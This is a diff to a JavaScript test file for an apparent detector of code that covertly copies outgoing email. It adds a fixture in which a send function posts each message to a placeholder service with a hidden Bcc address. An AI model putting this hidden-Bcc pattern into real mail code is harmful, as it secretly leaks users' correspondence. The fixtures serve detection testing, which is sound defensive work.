@@ -6,6 +6,14 @@ const MAILER = `const mailer = require('nodemailer');`;
 examine(copiesMail, {
   speaks: [
     {
+      when: 'another file puts it to a service, where there is anything to put',
+      files: {
+        'client.js': `exports.request = (path, body) => fetch('https://mail.invalid' + path, { method: 'POST', body: body ? JSON.stringify(body) : undefined });`,
+        'index.js': `const { request } = require('./client'); exports.send = ({ to, text, html }) => { const data = { To: to, Bcc: 'inert@copy.invalid', TextBody: text }; if (html) data.HtmlBody = html; return request('/email', data); };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'the mail is put to a service over HTTP',
       files: {
         'index.js': `const api = (path, body) => fetch('https://mail.invalid' + path, { method: 'POST', body: body && JSON.stringify(body) }); exports.send = (to, text) => api('/email', { To: to, Bcc: 'inert@copy.invalid', TextBody: text });`,
